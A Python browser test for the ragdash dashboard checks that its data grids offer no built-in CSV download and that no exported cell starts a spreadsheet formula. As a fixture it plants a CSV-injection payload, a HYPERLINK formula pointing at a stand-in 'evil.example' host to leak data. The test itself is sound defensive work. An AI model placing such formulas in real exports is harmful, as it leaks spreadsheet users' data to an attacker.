"""Formulas through the grids' own download (issue 40 #5): a document whose subject is
``=HYPERLINK("http://evil.example/?leak","click me")`` is listed in the Documents grid; no
CSV a user can take from a page's grids holds a cell a spreadsheet would run. The grids'
toolbar "Download as CSV" is switched off (``client.disableDataExport`` in
ragdash/ui/serve.py, both launch paths); ragdash's own downloads escape every cell. In
headless Chromium: every grid on the page is hovered and its toolbar searched for the
download, which is clicked when there (before the change it saved the formula)."""

from __future__ import annotations

import contextlib
import csv
import io
import shutil

import pytest
from browser_harness import chromium_browser, running_app, wait_for_app
from conftest import SAMPLE_DOCS, require_browser

from ragdash.csv_safe import FORMULA_START

pytestmark = pytest.mark.browser

SUBJECT = '=HYPERLINK("http://evil.example/?leak","click me")'
EVIL = f"---\nsubject: '{SUBJECT}'\nupdated: 2026-02-01\nstatus: current\n---\n# Leak\n\n" + (
    "- returns are accepted within 30 days\n"
)
# Chromium's own save dialog cannot be answered headless: without it Streamlit saves the
# CSV through a link, which playwright receives as a download.
NO_PICKER = "window.showSaveFilePicker = undefined; delete window.showSaveFilePicker;"


def formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_START)]  # fmt: skip


@pytest.fixture(scope="module")
def documents_page(tmp_path_factory):
    require_browser()
    root = tmp_path_factory.mktemp("export")
    docs = root / "docs"
    shutil.copytree(SAMPLE_DOCS, docs)
    (docs / "leak.md").write_text(EVIL, encoding="utf-8")
    with running_app(docs=docs, workspace=root / "workspace") as url, chromium_browser() as b:
        context = b.new_context(viewport={"width": 1400, "height": 1100}, accept_downloads=True)
        context.add_init_script(NO_PICKER)
        page = context.new_page()
        page.set_default_timeout(45_000)
        page.goto(f"{url}/documents")
        wait_for_app(page)
        yield page
        context.close()


def test_no_grid_download_holds_a_formula(documents_page):
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    page = documents_page
    grids = page.locator('[data-testid="stDataFrame"]')
    with contextlib.suppress(PlaywrightTimeout):  # the list may draw after the run settles
        grids.first.wait_for()
    assert grids.count() >= 1
    read_cells = """() => Array.from(
      document.querySelectorAll('[data-testid="stDataFrame"] [role="gridcell"]'),
      (cell) => cell.textContent)"""
    # A grid fills its cells after the script run ends; on a loaded machine (a suite run on
    # every core) that lags: wait for the subject's cell, then read them all.
    with contextlib.suppress(PlaywrightTimeout):
        page.wait_for_function(f"(want) => ({read_cells})().includes(want)", arg=SUBJECT)
    cells = page.evaluate(read_cells)
    assert SUBJECT in cells, "the subject is not listed in a grid: the probe would prove nothing"
    offered, saved, shown = 0, [], []
    for n in range(grids.count()):
        grid = grids.nth(n)
        if not grid.is_visible():
            continue
        grid.scroll_into_view_if_needed()
        grid.hover()
        page.wait_for_timeout(400)
        toolbar = page.locator('[data-testid="stElementToolbar"]:visible')
        shown.append([b.get_attribute("aria-label") for b in toolbar.get_by_role("button").all()])
        button = page.get_by_role("button", name="Download as CSV")
        if button.count() == 0 or not button.first.is_visible():
            continue
        offered += 1
        with page.expect_download(timeout=20_000) as download:
            button.first.click()
        saved.append(download.value.path().read_text(encoding="utf-8-sig"))
    found = [cell for text in saved for cell in formula_cells(text)]
    assert found == [], f"a grid's own CSV download holds formulas: {found}"
    assert offered == 0, "a grid offers Streamlit's own CSV download"
    # the toolbar was there to search (the hover worked): only its download is gone
    assert shown and all("Fullscreen" in labels for labels in shown), shown
